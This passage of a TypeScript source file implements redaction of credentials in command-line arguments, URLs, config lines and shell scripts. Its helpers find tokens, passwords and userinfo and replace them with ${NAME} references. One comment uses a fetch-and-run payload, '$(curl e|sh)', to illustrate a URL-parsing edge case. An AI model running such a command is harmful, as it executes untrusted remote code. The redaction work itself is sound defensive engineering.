    return rest ? { sign: lines.sign, safe: rest.safe } : lines;
  }
  return lines ?? data;
}

/**
 * `text` read as a data document (see `dataDocumentSecrets`): what a single-line value so written
 * loses (as a header's value) on every line, a block scalar's lines, a flow mapping's pairs.
 */
function dataLineSecrets(text: string, hide: SecretHide | undefined): ArgFound | undefined {
  const safe = dataDocumentSecrets(text, dataWrite(hide));
  return safe === undefined ? undefined : { sign: SecretSign.Field, safe };
}

/** What a data document's credential is written as: what `hide` returns, else its `${NAME}` reference. */
const dataWrite =
  (hide: SecretHide | undefined) =>
  (value: string, name: string): string =>
    hide ? hide(value, name) : reference(name);

/** Each line of `text` read alone by the display's reader (see `shownLineSecrets`), its line breaks kept. */
function linesApart(text: string, hide: SecretHide | undefined): ArgFound | undefined {
  const parts = text.split(/(\r\n|\n|\r)/);
  let sign: SecretSign | undefined;
  for (let index = 0; index < parts.length; index += 2) {
    const found = shownLineSecrets(parts[index] as string, hide);
    if (!found) continue;
    parts[index] = found.safe;
    sign ??= found.sign;
  }
  return sign === undefined ? undefined : { sign, safe: parts.join("") };
}

/**
 * A command line's arguments as they may be shown or shared, one for one: with what
 * `findSpecSecrets` flags in a bundled server's `args` taken out — the value of a flag, assignment
 * or header named like a credential (`--token X`, `--api-key=X`, `-e GITHUB_TOKEN=X`,
 * `--env=GITHUB_TOKEN=X`, `X-Api-Key: X`, `--header=X-Api-Key: X`), a connection string's telling pair
 * (`Server=db;Password=X;`), a telling pair in a list set apart by `&` or `,` (`user=a&password=X`,
 * `-o ro,password=X`), curl's `-u user:X`, a URL's userinfo and telling query values, each
 * key-shaped part — and the rest kept as written. A shell's own command (after `sh -c`, `bash
 * -lc`, `cmd /c`, `pwsh -Command`, …; a program's text and ssh's remote command when `args` name
 * the program), and any other argument that is a script (it holds a line break or a heredoc's
 * `<<`), is kept byte for byte, or, when it may hold a credential (see
 * {@link findSpecSecrets}), replaced whole: `${SHELL_COMMAND}` (`_2`, `_3`, … for more), or what
 * `hide(command, "SHELL_COMMAND")` returns (ssh's remote command given as several words: each word
 * by a reference of its own). One line of JSON has its telling keys' string values replaced inside
 * their quotes, still JSON, and its other strings read as arguments are (one starting with a
 * telling assignment as a command line: `PGPASSWORD=${PGPASSWORD} psql -h db`). One connection string (each `;`-part a `key=value`
 * pair) has its telling pairs' values replaced; any other argument holding whitespace is read as a
 * command line and kept byte for byte but for each secret's value. One pass: what it returns,
 * given again, comes back as it is. Replacements as {@link withoutSecrets}. Never throws; never
 * changes `args`. A non-list is returned as it is (as `withoutSecrets` returns a non-string), an
 * entry that is no string is kept as it is and read as an empty word, and a `hide` that is no
 * function is read as none.
 */
export function withoutArgSecrets(args: readonly string[], hide?: SecretHide): string[] {
  // Not a list (a string, `null`): returned as it is, as `withoutSecrets` returns a non-string.
  if (!Array.isArray(args)) return args as unknown as string[];
  // An entry that is no string (a number, `null`, a hole) is kept as it is and read as an empty word.
  const shown = givenHide(hide);
  const read = (given: readonly unknown[]): unknown[] => {
    const out: unknown[] = Array.from(given);
    const words = out.map((arg) => (typeof arg === "string" ? arg : ""));
    const names = referenceNames(words);
    scanArgs(
      "args",
      words,
      (_path, _sign, index, safe) => (out[index] = safe),
      shown,
      () => names.fresh("SHELL_COMMAND"),
    );
    return out;
  };
  if (shown) return read(args) as string[];
  // Read again until it comes back as it is, as `withoutSecrets` is (see `ownFixedPoint`): an
  // argument still changing after the last reading becomes `${SECRET}`.
  return ownFixedPoint(
    Array.from(args) as unknown[],
    read,
    (a, b) => a.every((arg, index) => arg === b[index]),
    (last, next) => next.map((arg, index) => (arg === last[index] ? arg : reference(""))),
  ) as string[];
}

/**
 * @internal The names of the references an export writes, one per distinct credential: `hide(secret,
 * name)` is the reference for `secret` given under `name` (its flag, field or variable; none for a
 * key shape, `${SECRET}`), named after `name` (see `reference`), then `_2`, `_3`, … when that name
 * is taken; the same `secret` given again, under any name, gets the reference it got first.
 * `fresh(name)` is a name of its own (a whole script's, `${GITHUB_COMMAND}`). A name given is never
 * one a `${…}` in `document` already writes, nor one given before (the environment's own names are
 * `reference`'s concern). `given(text)` lists the names given that `text` writes, in order, once each.
 */
export interface ReferenceNames {
  hide: SecretHide;
  fresh(name: string): string;
  given(text: string): string[];
}

/** @internal See `ReferenceNames`: the names `document` writes are read once, here. */
export function referenceNames(document: unknown): ReferenceNames {
  const used = new Set<string>();
  for (const match of (JSON.stringify(document) ?? "").matchAll(/\$\{([A-Za-z_][A-Za-z0-9_]*)/g))
    used.add(match[1] as string);
  const given = new Set<string>();
  const bySecret = new Map<string, string>();
  // Per name, the suffix to try next: k credentials sharing a name cost k look-ups, not k²/2.
  const next = new Map<string, number>();
  const fresh = (base: string): string => {
    let name = base;
    if (used.has(name)) {
      let n = next.get(base) ?? 2;
      while (used.has(`${base}_${n}`)) n += 1;
      name = `${base}_${n}`;
      next.set(base, n + 1);
    }
    used.add(name);
    given.add(name);
    return name;
  };
  const hide: SecretHide = (secret, name) => {
    let ref = bySecret.get(secret);
    if (ref === undefined) {
      ref = `\${${fresh(reference(name ?? "").slice(2, -1))}}`;
      bySecret.set(secret, ref);
    }
    return ref;
  };
  const written = (text: string) =>
    new Set(Array.from(text.matchAll(/\$\{([A-Za-z_][A-Za-z0-9_]*)\}/g), (match) => match[1] as string));
  return { hide, fresh, given: (text) => [...written(text)].filter((name) => given.has(name)) };
}

const FLAG = /^--?([A-Za-z][\w.-]*)(?:=([\s\S]*))?$/;

/**
 * A word after a flag that takes a value (`--token`, `--api-key`) that is a flag of its own, not
 * that value: a long flag of small letters and digits in words joined by `-` (`--verbose`,
 * `--log-level`, `--log-level=debug`), a lone short flag (`-v`), `--` or `-` (a program's standard input). Any other word starting
 * with `-` (`-VJJ`, `-sk-abc`, `--Zq9`) is read as the value: a credential may start with `-`, and
 * read as a flag it was kept in clear (fix175).
 */
const OWN_FLAG = /^(?:--(?:[a-z][a-z0-9]*(?:-[a-z0-9]+)*(?:=[\s\S]*)?)?|-[A-Za-z]?)$/;

/** What one argument's scan found: the first sign, and the argument with every flagged part redacted. */
export interface ArgFound {
  sign: SecretSign;
  safe: string;
}

/**
 * How an argument's parts are judged: `literal` for a value after a telling name (any literal
 * value in args, one that reads as a credential in prose), `header` for a header's value given as
 * `Name: value`, `telling` for a name; `words` when an argument holding whitespace (a `sh -c`
 * command) is read a word at a time.
 */
export interface ArgRules {
  literal: (value: string) => boolean;
  header: (value: string, name: string) => boolean;
  telling: (name: string) => boolean;
  words: boolean;
  /**
   * A text holding whitespace that starts with a telling assignment is a command line too
   * (`PGPASSWORD=X psql -h db`: only X hidden), not one assignment whose value runs to its end as
   * an argument's does (`-e "DB_PASS=two words"`): a JSON string's reading (see `jsonEdits`).
   */
  lines?: boolean;
}

const ARG_RULES: ArgRules = {
  literal: isLiteral,
  header: (value) => isLiteral(value),
  telling: looksSecretName,
  words: true,
};

/** The rules for args, any value taken (a word read partly at run time judges its values itself: see `ruleSpans`). */
const ANY_VALUE: ArgRules = { ...ARG_RULES, literal: () => true };

/** Prose's rules: a name tells by its words, and a value must read as a credential. */
export const PROSE_RULES: ArgRules = {
  literal: proseCredential,
  header: headerCredential,
  telling: looksProseSecretName,
  words: false,
};

/**
 * Where a URL in a word starts: a run of scheme characters where it starts (so a long run is read
 * once), its scheme and `://` (group 1) from the run's first letter, whatever text comes before the
 * run (a shell reads `$1https://…` as `$1` and the URL: r63-2; `1https://…`, `..https://…` and
 * `"https://…` too: r64-1).
 */
const URL_IN_WORD = /(?<![A-Za-z0-9+.-])[0-9+.-]*([A-Za-z][A-Za-z0-9+.-]*:\/\/)/g;

/** A URL's authority after its `://`: to the first `/`, `?`, `#` or blank. */
const AUTHORITY = /[^\s/?#]*/y;

/** The start of what `unparsedUserinfo` may read as a userinfo after a URL's `://`: a colon before any `@`, `/`, `?`, `#` or blank. */
const LOOSE_USER = /[^\s@/?#:]*:/y;

/** A blank, or a run-time part's opener (`$(`, `${`, a backtick) or a `?`, where `urlEnd` looks next. */
const URL_STOP = /[\s?`]|\$[({]/g;

/**
 * Where each run-time part that `value` opens (`$(`, `${`, a backtick) closes: the opener's index to
 * the index just past its close, for each that closes. A `$(` closes at the `)` that pairs with its
 * `(` (the parentheses inside it counted), a `${` at the `}` that pairs with its `{`, a backtick at
 * the next backtick; a backtick that closes one is no opener. One pass.
 */
function runTimeCloses(value: string): Map<number, number> {
  const closes = new Map<number, number>();
  const parens: number[] = [];
  const braces: number[] = [];
  let tick = -1;
  for (let i = 0; i < value.length; i += 1) {
    const c = value[i];
    if (c === "`") {
      if (tick < 0) tick = i;
      else {
        closes.set(tick, i + 1);
        tick = -1;
      }
    } else if (c === "(") parens.push(value[i - 1] === "$" ? i - 1 : -1);
    else if (c === "{") braces.push(value[i - 1] === "$" ? i - 1 : -1);
    else if (c === ")" || c === "}") {
      const opener = (c === ")" ? parens : braces).pop();
      if (opener !== undefined && opener >= 0) closes.set(opener, i + 1);
    }
  }
  return closes;
}

/**
 * Where a URL that starts at `start` in `value` ends: at the first blank, but past a blank inside a
 * run-time part its query opens and closes (`?token=$(curl e|sh)a9`: the command-line reader ends
 * the word there, and a URL read to that blank left `a9` in clear in the export, the payload's
 * rest after the URL). Before the query, and in a part that never closes, a blank ends it as before.
 * Reads from `start` to the end only, each opener's close looked up (see `runTimeCloses`).
 */
function urlEnd(value: string, start: number, closes: () => Map<number, number>): number {
  let query = false;
  URL_STOP.lastIndex = start;
  for (let stop = URL_STOP.exec(value); stop !== null; stop = URL_STOP.exec(value)) {
    const c = stop[0];
    if (/\s/.test(c)) return stop.index;
    if (c === "?") query = true;
    else if (query) {
      const close = closes().get(stop.index);
      if (close !== undefined) URL_STOP.lastIndex = close;
    }
  }
  return value.length;
}

/**
 * Each URL in `value`, in order: where it starts, its text, and whether it `follows` another in the
 * same run of text (no blank between them). The first of a run is read to the blank (see `urlEnd`:
 * a blank inside a run-time part its query opens and closes is no end; before the quotes that
 * close it: see `quotedEnd`), as a URL is read alone; one that follows, from its start to the next
 * one's or to the blank
 * (`https://h/p,https://u:X@h2/p`, `https://h/?next=https://u:X@h2`, `https://a@h/p|https://u:X@h2`:
 * fix169, only the first was read, so a later URL's password was kept in clear). A `scheme://`
 * inside a URL's userinfo, as the URL parser or `unparsedUserinfo` reads it
 * (`https://u:pa://ss@h`), is the password's, no URL. One pass: each authority is read once, and
 * the next `@` and blank are looked for going forward only.
 */
function urlsInWord(value: string): { start: number; url: string; follows: boolean }[] {
  if (!value.includes("://")) return [];
  const found: { start: number; blank: number; follows: boolean }[] = [];
  // Where the next URL may start; the first `@` and the first blank at or after the last place
  // asked (each place asked is past the one before), or the value's length when there is none.
  let from = 0;
  let at = -1;
  let blank = -1;
  let closes: Map<number, number> | undefined;
  const read = () => {
    closes ??= runTimeCloses(value);
    return closes;
  };
  for (const match of value.matchAll(URL_IN_WORD)) {
    const scheme = match[1] ?? "";
    const start = (match.index ?? 0) + match[0].length - scheme.length;
    if (start < from) continue;
    if (blank < start) blank = urlEnd(value, start, read);
    const follows = found[found.length - 1]?.blank === blank;
    found.push({ start, blank, follows });
    // Past this URL's userinfo: the authority's last `@` (the parser's); for one that follows
    // another, also the first `@` where the text reads as `user:password@` with no blank in it and
    // no port before a `/` (`unparsedUserinfo`'s: `https://h,redis://u:pa://ss@h`). The first of a
    // run has had its credentials taken out before its followers are read (see `safeString`).
    const after = start + scheme.length;
    AUTHORITY.lastIndex = after;
    const authority = AUTHORITY.exec(value)?.[0] ?? "";
    from = after + authority.lastIndexOf("@") + 1;
    LOOSE_USER.lastIndex = after;
    const loose = follows ? LOOSE_USER.exec(value) : null;
    if (!loose) continue;
    const colon = after + loose[0].length;
    if (at < colon) {
      at = value.indexOf("@", colon);
      if (at < 0) at = value.length;
    }
    const port = value.slice(colon, Math.min(at, after + authority.length));
    if (at < blank && !/^\d*$/.test(withoutReferences(port))) from = Math.max(from, at + 1);
  }
  // The first of a run to the blank (see `quotedEnd`); one that follows, to the next one's start or the blank.
  return found.map(({ start, blank: end, follows }, index) => ({
    start,
    url: value.slice(
      start,
      follows
        ? Math.min((found[index + 1] as { start: number } | undefined)?.start ?? end, end)
        : quotedEnd(value, start, end),
    ),
    follows,
  }));
}

/**
 * Where a URL read from `start` to `end` (a blank or the value's end) ends when it is written in
 * quotes: before the quotes that close it, when only quotes stand between them and `end` and the
 * quote it opens with is among them (`"https://h/p?token=${TOKEN}"`, `'https://h/p?token=${X}'"` in
 * a quoted string's word as written: read to the blank, the closing quotes were read as the
 * token's value, so the export dropped them and the display hid them). Else `end`.
 */
function quotedEnd(value: string, start: number, end: number): number {
  const quote = value[start - 1];
  if (quote !== '"' && quote !== "'") return end;
  let cut = end;
  while (cut > start && (value[cut - 1] === '"' || value[cut - 1] === "'")) cut -= 1;
  return value.slice(cut, end).includes(quote) ? cut : end;
}

/**
 * Each URL in `value` that does not start it, is the first of its run of text (see `urlsInWord`)
 * and carries a sign (see `urlSign`), in order: where it starts, the URL (to a blank) and its
 * sign. A word given as an argument is no shell's: `$1`, `${X}` or any other text before a URL is
 * kept as written, and the URL's credentials are still the URL's (r64-1: `--url $1https://u:X@h`
 * was exported as written, with no hint).
 */
function gluedUrls(value: string): { start: number; url: string; sign: SecretSign }[] {
  const out: { start: number; url: string; sign: SecretSign }[] = [];
  for (const { start, url, follows } of urlsInWord(value)) {
    if (start === 0 || follows) continue;
    const sign = urlSign(url);
    if (sign) out.push({ start, url, sign });
  }
  return out;
}

/** True when a URL that follows another in the same run of text (see `urlsInWord`) has a userinfo that says something. */
function followerUserinfo(value: string): boolean {
  return urlsInWord(value).some(({ url, follows }) => follows && urlSign(url) === SecretSign.Userinfo);
}

/**
 * `value` with the userinfo of each URL that follows another in the same run of text (see
 * `urlsInWord`) taken out as `withoutUserinfo` takes it; the rest kept as written.
 */
function withoutFollowerUserinfo(value: string, hide?: SecretHide): string {
  let out = "";
  let from = 0;
  for (const { start, url, follows } of urlsInWord(value)) {
    if (!follows) continue;
    out += value.slice(from, start) + withoutUserinfo(url, hide);
    from = start + url.length;
  }
  return from === 0 ? value : out + value.slice(from);
}

/**
 * The spans of one word's value that hold a secret, read as args are but only by whole names; a
 * literal default of `${NAME:-word}` that no span covers, under a `NAME` whose whole name tells,
 * besides (`${DB_PASSWORD:-X}`). A word read again (`data`), or any with `asData`, as `dataSpans` reads
 * it, given the two words before it on its line.
 */
function wordSpans(
  word: CommandWord,
  previous: CommandWord | undefined,
  before: CommandWord | undefined,
  asData = false,
  display = false,
  queryPair = false,
): Span[] {
  const pair = queryPair && !word.data && !asData ? queryPairSpans(word, display) : undefined;
  if (pair) return pair;
  const read =
    word.data || asData ? dataSpans(word, previous, before) : ruleSpans(word, previous, before, display);
  // A value within a default's word that mixes literal text and run-time parts (`--token
  // ${V:-J${X}}`): its literal stretches alone (see `mixedDefault`), the parts read at run time as
  // such a word's are (fix177: the value was hidden whole, `${X}` with it, in the display). A
  // stretch the value starts or ends inside (`TOKEN=Q` of `${V:-TOKEN=Q${X}J}`) is cut at the
  // value's edge (fix186: it was dropped, `Q` kept in clear in both views); when no stretch lies
  // wholly inside the value (`${V:-TOKEN=QJ$X}`), it is hidden whole, as before.
  const spans = word.defaults?.some((fallback) => fallback.mixed)
    ? read.flatMap((span) => {
        const within = (word.defaults ?? []).filter(
          (fallback) =>
            fallback.mixed !== undefined &&
            fallback.mixed.start <= span.start &&
            span.end <= fallback.mixed.end &&
            fallback.end > span.start &&
            fallback.start < span.end,
        );
        if (
          span.with !== undefined ||
          span.written !== undefined ||
          !within.some((fallback) => fallback.start >= span.start && fallback.end <= span.end)
        )
          return [span];
        const inside = (fallback: (typeof within)[number]) =>
          fallback.mixed?.start === within[0]?.mixed?.start;
        return within.filter(inside).map((fallback) => ({
          ...span,
          start: Math.max(fallback.start, span.start),
          end: Math.min(fallback.end, span.end),
        }));
      })
    : read;
  const defaults = (word.defaults ?? []).filter(
    (fallback) => wholeNameTells(fallback.name) && isLiteral(word.value.slice(fallback.start, fallback.end)),
  );
  if (defaults.length === 0) return spans;
  // Both in the order written: merged in one pass, a default inside a span left to the span.
  const out: Span[] = [];
  let next = 0;
  for (const fallback of defaults) {
    while (next < spans.length && (spans[next] as Span).start < fallback.end) {
      out.push(spans[next] as Span);
      next += 1;
    }
    const last = out[out.length - 1];
    if (last !== undefined && last.end > fallback.start) continue;
    out.push({ start: fallback.start, end: fallback.end, name: fallback.name, sign: SecretSign.Flag });
  }
  while (next < spans.length) {
    out.push(spans[next] as Span);
    next += 1;
  }
  return out;
}

/** A name written before its value in a config line: `password:`, `"api_key":`, `{"token":`. */
const NAME_COLON = /^[{[,]?["']?([A-Za-z_][\w.-]*)["']?:$/;
/** A name alone before a lone `=` or `:` (`password = X`), quoted or not. */
const NAME_ALONE = /^["']?([A-Za-z_][\w.-]*)["']?$/;
/** A config value that is no credential: YAML's and JSON's empty and boolean words, a `<placeholder>` (or its first word). */
export const NO_VALUE =
  /^(?:["']?(?:null|nil|none|~|true|false|yes|no|on|off)["']?[,;]?|<[^<>]*>?["']?[,;]?)$/i;

/**
 * The spans of a data word (one read again with no quote: see `CommandWord`): what a command's
 * word says (`--password X`, `--password=X`, `NAME=X`, a header word, curl's `-u user:X`, a
 * connection string's pair, a URL's credentials), and what a config line says: the value after
 * `NAME:` (`password: X`, `"api_key": "X",`), after `NAME =` or `NAME :`, and after
 * `NAME: Bearer` (the scheme kept), under a name whose whole name tells and holding a letter or a
 * digit (not YAML's `|` or `>`); in a comment or a quoted string, one that reads as a credential
 * (`proseCredential`: `# password: see the vault`, `echo "token: rotated"` are prose). `null`, `true`, `~`, a `<placeholder>` and the like are
 * no value. A key shape after a name that says only "a credential" (`key:`,
 * `token:`) is left to the key shapes (`${SECRET}`). Each value is taken without the quotes, the
 * `,` or `;` and an unpaired `)` written around it in the word (`"X",` → `X`).
 */
function dataSpans(
  word: CommandWord,
  previous: CommandWord | undefined,
  before: CommandWord | undefined,
): Span[] {
  const value = word.value;
  if (NO_VALUE.test(value)) return urlSpans(value, []);
  const found = ruleSpans(word, previous, before).flatMap((span) => trimmedSpans(value, span));
  if (found.length > 0)
    return word.quoted
      ? found.filter((span) => span.with !== undefined || proseCredential(value.slice(span.start, span.end)))
      : found;
  if (word.dynamic || !/[A-Za-z0-9]/.test(value) || SCHEME.test(value) || previous === undefined) return [];
  // In a quoted string (prose: `echo "password: see the vault"`), such a value must read as a credential.
  if (word.quoted && !proseCredential(value.replace(/^["']|["']?[,;]?$/g, ""))) return [];
  const colon = NAME_COLON.exec(previous.value);
  const scheme = SCHEME.test(previous.value) && before ? NAME_COLON.exec(before.value) : null;
  const assigned =
    (previous.value === "=" || previous.value === ":") && before ? NAME_ALONE.exec(before.value) : null;
  const name = (colon ?? scheme ?? assigned)?.[1];
  if (name === undefined || !wholeNameTells(name) || !isLiteral(value)) return [];
  if (GENERIC_NAME.test(name) && looksLikeKey(value)) return [];
  return trimmedSpans(value, { start: 0, end: value.length, name, sign: SecretSign.Flag });
}

/**
 * A data word's span without the quotes, the `,` or `;` and an unpaired `)` written around its
 * value; when what is left says nothing outside its references, each of its literal defaults'
 * words alone (`${DB_PASSWORD:-X}` → `X`). None when no letter or digit is left. A URL's span is kept whole.
 */
function trimmedSpans(value: string, span: Span): Span[] {
  if (span.with !== undefined) return [span];
  let { start, end } = span;
  while (end > start && (value[end - 1] === "," || value[end - 1] === ";")) end -= 1;
  if (end > start && value[end - 1] === ")" && !value.slice(start, end).includes("(")) end -= 1;
  const quote = value[start];
  if ((quote === '"' || quote === "'") && end - start >= 2 && value[end - 1] === quote) {
    start += 1;
    end -= 1;
  } else if (quote === '"' || quote === "'") start += 1;
  else if (end > start && (value[end - 1] === '"' || value[end - 1] === "'")) end -= 1;
  const text = value.slice(start, end);
  // Punctuation alone (`))`, `|`) is no value.
  if (!/[A-Za-z0-9]/.test(text)) return [];
  if (withoutReferences(text).trim() !== "") return [{ ...span, start, end }];
  return literalDefaults(text).map((fallback) => ({
    ...span,
    start: start + fallback.start,
    end: start + fallback.end,
  }));
}

/**
 * A quoted string's data word (see `CommandWord`: written as it stands on the line, split at
 * whitespace) that opens a `'` or `"` it does not close (`"pa` in `sh -c 'wget --password "pa ss X9"'`;
 * the quote that opens its line aside), joined with the data words after it on its line up to the
 * quote that closes it, as the shell that runs the string reads one word: its text as written, to
 * that closing quote. Undefined for any other word, or when no word on its line closes it. A word
 * is read here at most once for each quote (a nearer opener of the same quote stops the reading).
 */
function quotedRun(line: string, words: readonly CommandWord[], index: number): CommandWord | undefined {
  const word = words[index] as CommandWord;
  const raw = (other: CommandWord | undefined): other is CommandWord =>
    other !== undefined &&
    other.data === true &&
    other.quoted === true &&
    other.group === word.group &&
    other.value === line.slice(other.start, other.end);
  if (!raw(word)) return undefined;
  // The quote left open at the word's end (past its line's opening quote, which is the first word's first character).
  const first = !raw(words[index - 1]) && /^["']/.test(word.value);
  let open = "";
  for (let i = first ? 1 : 0; i < word.value.length; i += 1) {
    const c = word.value[i] as string;
    if (c === "\\" && open !== "'") i += 1;
    else if (open === "" && (c === "'" || c === '"')) open = c;
    else if (c === open) open = "";
  }
  if (open === "") return undefined;
  let dynamic = word.dynamic;
  for (let next = index + 1; raw(words[next]); next += 1) {
    const other = words[next] as CommandWord;
    const close = other.value.indexOf(open);
    dynamic ||= other.dynamic && (close < 0 || /[$`]/.test(other.value.slice(0, close)));
    if (close < 0) continue;
    const end = other.start + close + 1;
    const at = Array.from({ length: end - word.start }, (_, k) => word.start + k);
    return { ...word, end, value: line.slice(word.start, end), at, dynamic };
  }
  return undefined;
}

/**
 * A client's password `span` in a data word (written as it stands on the line, see `CommandWord`)
 * without the quote before it and the quotes, `;` and `,` after it (a `)` too when no `(` stands in
 * it): `-p'X'"` at the end of `sh -c "…; mysql -p'X'"` gives `X`. See `trimmedSpans` for the rest.
 */
function dataPassword(value: string, span: Span): Span {
  let { start, end } = span;
  if (value[start] === "'" || value[start] === '"') start += 1;
  const unpaired = !value.slice(start, end).includes("(");
  while (end > start && (/["';,]/.test(value[end - 1] as string) || (unpaired && value[end - 1] === ")")))
    end -= 1;
  return { ...span, start, end };
}

/**
 * Whether a word read partly at run time is read for a mixed value (literal text beside run-time
 * parts, see `saysBesideRunTime`): any but a data word, and a quoted string's own data word
 * (`sh -c "srv --token abc\$X"`) whose run-time parts are whole in it (a `$NAME`, `${…}` closed in
 * it; no `$(`, `$[` or backtick, which a blank inside them may have split).
 */
function mixedWord(word: CommandWord): boolean {
  if (!word.data) return true;
  if (!word.quoted || word.nested || /`|\$[([]/.test(word.value)) return false;
  return (word.value.match(/\$\{/g)?.length ?? 0) === (word.value.match(/\}/g)?.length ?? 0);
}

/** What may stand before a URL that runs to its word's end (see `urlSpans`): nothing, a `NAME=`, a `--flag=` or a header's `Name: `. */
const URL_LEAD = /^(?:(?:--?)?[A-Za-z_][\w.-]*=|[\w.-]+:[ \t]*)/;

/** A `${…}`'s head (`${NAME:-`) and its closing brace: what is left is its word (see `aroundRunTime`). */
const BRACED_WORD = /^\$\{[!#]?\w*(?::?[-=?+])?|\}$/g;

/**
 * `span` of `value` (a shell's own command, given to it as one word) cut around each run-time part
 * the shell it is given to runs there (`$(…)`, a backtick's, a `${…}` it expands whose word says
 * nothing beside its own run-time parts, see `expansionAt`): the literal text between them, each
 * piece a span of its own, so the display keeps those parts in sight. One pass over the span (each
 * part passed over once, see `expansionEnd`).
 */
function aroundRunTime(value: string, span: Span): Span[] {
  const pieces: Span[] = [];
  let from = span.start;
  let i = span.start;
  while (i < span.end) {
    const c = value[i];
    const opener = runTimeOpenerAt(value, i);
    if (opener !== "") {
      const end = Math.max(i + 1, expansionEnd(value, i).end);
      // A `${…}` whose word says something (`${X:-Q9}`) is hidden with the value, as before.
      const word = opener === "{" ? value.slice(i, end).replace(BRACED_WORD, "") : "";
      if (word !== "" && saysBesideRunTime(word)) {
        i = end;
        continue;
      }
      if (i > from) pieces.push({ ...span, start: from, end: i });
      i = end;
      from = i;
    } else i += c === "\\" ? 2 : 1;
  }
  if (from < span.end) pieces.push({ ...span, start: from, end: span.end });
  return pieces.filter((piece) => value.slice(piece.start, piece.end).trim() !== "");
}

/** A URL with a query and no fragment (`https://h/p?b=1`), all of a word's value: the `&` glued after it continues its query. */
const QUERY_URL = /^[A-Za-z][A-Za-z0-9+.-]*:\/\/[^\s#]*\?[^\s#]*$/;

/** A query pair's shape: a plain name, `=`, and a value with no `&` or `#` (a query's own). */
const QUERY_PAIR = /^[\w.%+-]+=[^&#]*$/;
/**
 * The display's: a name as the URL's reading takes it (any text but a blank, `&`, `=`, `#`, `$` or
 * a backtick: `J}api_key`, a telling name to `tellingPair`). fix179: `…&J}api_key=X` was read by the
 * rules for args in the display, `X` kept in clear, where the export drops the pair with the URL's
 * query (it reads a pasted line no glued pair takes as one URL, and keeps doing so).
 */
const SHOWN_QUERY_PAIR = /^[^\s&=#$`]+=[^&#]*$/;

/**
 * The indexes of the words that continue a URL's query past an unquoted `&` (`srv
 * https://h/p?b=1&token=${X}-J`): a `name=value` word written as it reads (no quote or escape,
 * each run-time part closed in it), glued to a lone `&` glued to a URL with a query, or to such a pair in turn. A shell runs the URL in the background and reads the pair as
 * a command of its own, but the text is the URL's: its value is read as a query value is (see
 * `queryPairSpans`), as the export reads the line as one URL (fix178: `${X}-J` read as a
 * reference with a short label, `-J` kept in clear in the display, in a `--run` argument in both
 * views). One pass over the words.
 */
function gluedQueryPairs(line: string, words: readonly CommandWord[], shown: boolean): Set<number> {
  const found = new Set<number>();
  const pair = shown ? SHOWN_QUERY_PAIR : QUERY_PAIR;
  // The pairs that continue a URL's query; `shown` (the display, and an argument's line in both
  // views) those written apart too, the query going on after them (fix179: `…&token=\"${X}&J}api_key=X`,
  // whose last pair the export drops, kept X in clear).
  const glued = new Set<number>();
  // The words read again inside a word (its substitution's, its quotes': `data`) are listed after
  // it: the `&` and the URL before a pair are the words before it that are none (fix181: a URL whose
  // `$(a b)` holds a blank had such words between, and a pair after it was not read).
  // `before[i]`: the index of the last word before `i` that is not `data` (-1 when none), read in one
  // pass (fix182: walking back from each word over the data words before it was quadratic in a
  // quote's words, a 64 KiB `sh -c` line took seconds).
  const before: number[] = [];
  for (let i = 0, last = -1; i < words.length; i += 1) {
    before.push(last);
    if (!(words[i] as CommandWord).data) last = i;
  }
  // The blank last in the line before its trailing ones: a blank follows a URL when it starts before it.
  const lastBlank = line.trimEnd().search(/\s\S*$/);
  for (let i = 2; i < words.length; i += 1) {
    const word = words[i] as CommandWord;
    if (word.operator || word.data) continue;
    const a = before[i] as number;
    const u = a < 0 ? -1 : (before[a] as number);
    if (u < 0) continue;
    const and = words[a] as CommandWord;
    const url = words[u] as CommandWord;
    if (!and.operator || and.value !== "&" || url.operator || url.data) continue;
    if (and.start !== url.end || word.start !== and.end || url.group !== word.group) continue;
    // Each quote and run-time part closed in it (one left open, on a line a shell refuses, is read
    // as before), and written as it reads (no quote or escape in it: one written apart is read as
    // before, the query going on after it).
    // Shown, one whose only part left open is a default at its end (`&code=${V:-J`, on a line a
    // shell refuses) is read too: its word is the value's (fix180: `J` was kept in clear). So is it
    // in the export when a blank follows the URL (`&sig=${V:-J Q`, `?token=$(a b)x&code=${V:-J`):
    // the later round's reading of one URL, which drops such a pair whole, stops at that blank
    // (fix181: ` Q`, `J` kept in clear).
    const written = line.slice(word.start, word.end);
    const openRead = shown || lastBlank >= url.start;
    if (!pair.test(word.value) || !(closesInItself(written) || (openRead && openDefaultAtEnd(written))))
      continue;
    // A closed `$(…)` or backtick part of the URL is one piece of it, a blank in it included.
    if (!glued.has(u) && !QUERY_URL.test(url.value.replace(/\$\([^()]*\)|`[^`]*`/g, "x"))) continue;
    // A literal default read in place is written as it reads too, its word the value's (fix182:
    // `&%74oken=${V:-JJ}`, a name no rule for args reads, kept `JJ` in clear in both views).
    const asWritten =
      word.end - word.start === word.value.length ||
      (word.defaults !== undefined && !word.dynamic && !/['"\\]/.test(written) && closesInItself(written));
    if (asWritten || shown) glued.add(i);
    if (asWritten) found.add(i);
  }
  return found;
}

/**
 * `span` of `word` (a value whose text steps over a default's braces, `${V:-TOKEN=QJ}x`) cut where
 * it does, each piece hidden where it is written (its `written`: from its first character, an
 * escape before it included, to its last), the braces between kept as written, so the references
 * fill back byte for byte and each `${NAME:-…}` stays as the line closes it (`${V:-TOKEN=${TOKEN}}x`
 * would drop `x`'s piece; it is `${TOKEN_2}`). A piece of backslashes only (`${V:-TOKEN=QJ}\\` at
 * the line's end) says nothing and is kept as written. Undefined when the value's text holds a
 * quote. One pass over the span.
 */
function bracedPieces(line: string, word: CommandWord, span: Span): Span[] | undefined {
  const at = word.at;
  const first = at[span.start] as number;
  if (/['"]/.test(line.slice(first, (at[span.end - 1] as number) + 1))) return undefined;
  // Where a piece starting at value index `k` is written: an escape just before it is its own.
  const startOf = (k: number) => {
    const from = at[k] as number;
    const floor = k > 0 ? (at[k - 1] as number) + 1 : word.start;
    return from > floor && line[from - 1] === "\\" ? from - 1 : from;
  };
  const pieces: Span[] = [];
  let from = span.start;
  for (let k = span.start + 1; k <= span.end; k += 1) {
    if (k < span.end && !/[{}]/.test(line.slice((at[k - 1] as number) + 1, at[k] as number))) continue;
    if (!/^\\*$/.test(word.value.slice(from, k)))
      pieces.push({
        ...span,
        start: from,
        end: k,
        written: { start: startOf(from), end: (at[k - 1] as number) + 1 },
      });
    from = k;
  }
  return pieces;
}

/** True when `text` holds no quote and its one part left open is a default (`${NAME:-`) whose word runs to the end with no run-time part in it. */
function openDefaultAtEnd(text: string): boolean {
  if (/['"\\`]|\$\(/.test(text)) return false;
  const at = text.lastIndexOf("${");
  if (at < 0 || !closesInItself(text.slice(0, at))) return false;
